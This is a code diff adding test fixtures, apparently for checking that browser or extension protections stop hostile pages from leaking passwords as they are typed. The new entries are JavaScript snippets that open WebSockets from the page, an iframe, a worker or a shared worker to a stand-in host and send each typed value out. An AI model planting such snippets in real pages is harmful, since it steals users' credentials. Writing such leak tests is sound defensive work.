@@ -19,7 +19,45 @@ const onInput = (source: string) =>
 const onceKnown = (source: string) => `fetch('E/known', { mode: 'no-cors' }).then(async () => { ${source} })`
 const onSubmit = (source: string) => `document.querySelector('form').addEventListener('submit', () => { ${source} })`
 
+/**
+ * Whoever has a WebSocket to the other site is given every value as it is typed. The page has not loaded before the
+ * socket is open: `opened` is called by who opens it, `tell` hands on the value.
+ */
+const beforeTheForm = (opening: string) =>
+  `new Image().src = '/until-opened'; const opened = () => fetch('/opened'); let tell; ${opening}; ${onInput('tell(pw())')}`
+const SOCKET = "new WebSocket('E/'.replace('http', 'ws'))"
+
+/** A socket that is open already when the secret is typed: no connection has to be made for it any more. */
+export const OPEN_SOCKETS: readonly HostilePage[] = [
+  {
+    name: 'a WebSocket of the page that is open already',
+    atForm: beforeTheForm(`const s = ${SOCKET}; s.onopen = opened; tell = value => s.send(value)`),
+  },
+  {
+    name: 'a WebSocket of a frame that is open already',
+    atForm: beforeTheForm(
+      "const i = document.createElement('iframe'); i.src = 'E/socket'; onmessage = opened; tell = value => i.contentWindow.postMessage(value, '*'); document.body.append(i)",
+    ),
+  },
+  {
+    name: 'a WebSocket of a worker that is open already',
+    atForm: beforeTheForm(
+      "const w = new Worker('/worker.js'); w.onmessage = opened; tell = value => w.postMessage(value)",
+    ),
+    script: `const s = ${SOCKET}; s.onopen = () => postMessage(1); onmessage = e => s.send(e.data)`,
+  },
+  {
+    name: 'a WebSocket of a shared worker that is open already',
+    atForm: beforeTheForm(
+      "const w = new SharedWorker('/worker.js').port; w.onmessage = opened; tell = value => w.postMessage(value)",
+    ),
+    script: `const s = ${SOCKET}; const up = new Promise(done => { s.onopen = done });
+      onconnect = e => { const [port] = e.ports; up.then(() => port.postMessage(1)); port.onmessage = m => s.send(m.data) }`,
+  },
+]
+
 export const HOSTILE_PAGES: readonly HostilePage[] = [
+  ...OPEN_SOCKETS,
   { name: 'a picture’s address while it is typed', atForm: onInput("new Image().src = 'E/?p=' + pw()") },
   {
     name: 'a request while it is typed',
